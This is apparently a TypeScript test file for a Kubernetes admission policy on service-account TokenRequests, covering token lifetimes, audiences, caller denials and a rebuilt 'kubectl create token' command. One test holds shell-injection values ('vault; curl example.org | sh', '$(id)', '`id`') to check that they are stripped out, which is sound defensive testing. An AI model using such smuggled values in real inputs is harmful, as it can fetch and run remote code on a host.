import { describe, expect, it } from 'vitest';
import { formatDuration } from '../../../src/objects/duration.ts';
import type { JsonObject } from '../../../src/objects/json.ts';
import { buildTokenCommand, isExtendedRequest, readTokenRequest } from '../../../src/objects/token-request.ts';
import { judgeWith } from '../judging.ts';
import { subjectOf } from '../subjects.ts';

const API = ['https://kubernetes.default.svc', 'https://issuer.example'];
const POD = { apiVersion: 'v1', kind: 'Pod', name: 'web' };

function tokenRequest(spec: JsonObject, caller = { username: 'jane', groups: ['system:authenticated'] }) {
  const resource = { group: '', name: 'serviceaccounts', subresource: 'token' };
  return subjectOf('', { kind: 'TokenRequest', spec }, { resource, kind: 'TokenRequest', caller });
}

describe('A request is extended to a year', () => {
  it.each<[string, JsonObject, boolean]>([
    ['bound to a pod, no audience', { expirationSeconds: 3607, boundObjectRef: POD }, true],
    ['null audiences', { expirationSeconds: 3607, boundObjectRef: POD, audiences: null }, true],
    ['every audience is the API’s', { expirationSeconds: 3607, boundObjectRef: POD, audiences: API }, true],
    ['one audience is not', { expirationSeconds: 3607, boundObjectRef: POD, audiences: [...API, 'vault'] }, false],
    ['another lifetime', { expirationSeconds: 3608, boundObjectRef: POD }, false],
    ['bound to a Secret', { expirationSeconds: 3607, boundObjectRef: { kind: 'Secret', name: 'a' } }, false],
    ['bound to nothing', { expirationSeconds: 3607, boundObjectRef: null }, false],
    ['no lifetime, which becomes 3600', { boundObjectRef: POD }, false],
  ])('%s', (_what, spec, wanted) => {
    const asked = readTokenRequest({ spec });
    expect(asked === undefined ? undefined : isExtendedRequest(asked, API)).toBe(wanted);
  });
});

describe('The command that asks again', () => {
  const commandOf = (spec: JsonObject) => buildTokenCommand(tokenRequest(spec), { expirationSeconds: 900 }, API);

  it('asks for the same token, without the audience that every token has', () => {
    expect(commandOf({ audiences: ['vault', ...API], boundObjectRef: POD })).toBe(
      'kubectl create token web --namespace shop --duration 15m --audience vault --bound-object-kind Pod --bound-object-name web',
    );
  });

  it('holds nothing of a request that a shell would run', () => {
    const audiences = ['vault; curl example.org | sh', '$(id)', '-x'];
    const boundObjectRef = { kind: 'Pod; id', name: '`id`' };
    expect(commandOf({ audiences, boundObjectRef })).toBe(
      'kubectl create token web --namespace shop --duration 15m --audience AUDIENCE --audience AUDIENCE --audience AUDIENCE --bound-object-kind KIND --bound-object-name NAME',
    );
  });
});

describe('A duration in a command', () => {
  it.each([
    [600, '10m'],
    [610, '610s'],
    [3600, '1h'],
    [5400, '90m'],
    [86_400, '24h'],
  ])('%d is %s', (seconds, text) => {
    expect(formatDuration(seconds)).toBe(text);
  });
});

describe('A token for a month', () => {
  const MONTH: JsonObject = { expirationSeconds: 2_592_000, boundObjectRef: null };
  const isDenied = (spec: JsonObject, username: string, groups: readonly string[] = ['system:authenticated']) =>
    judgeWith(tokenRequest(spec, { username, groups: [...groups] })).verdict.denial !== undefined;

  it.each([
    ['jane', true],
    ['system:serviceaccount:shop:web', true],
    ['system:serviceaccount:kube-system2:web', true],
    ['system:kube-controller-manager2', true],
    ['system:kube-controller-manager', false],
    ['system:cloud-controller-manager', false],
    ['system:apiserver', false],
    ['system:serviceaccount:kube-system:generic-garbage-collector', false],
  ])('asked for by %s: denied is %s', (username, wanted) => {
    expect(isDenied(MONTH, username)).toBe(wanted);
  });

  it('is never denied to a node, and is to a caller who belongs to no group', () => {
    expect(isDenied(MONTH, 'system:node:a', ['system:nodes', 'system:authenticated'])).toBe(false);
    expect(isDenied(MONTH, 'jane', [])).toBe(true);
  });

  it('is left alone if it is one that the API server shows to a webhook', () => {
    const kind = 'ValidatingWebhookConfiguration';
    expect(isDenied({ ...MONTH, boundObjectRef: { kind, name: 'curfew' } }, 'system:apiserver-of-mine')).toBe(false);
  });
});
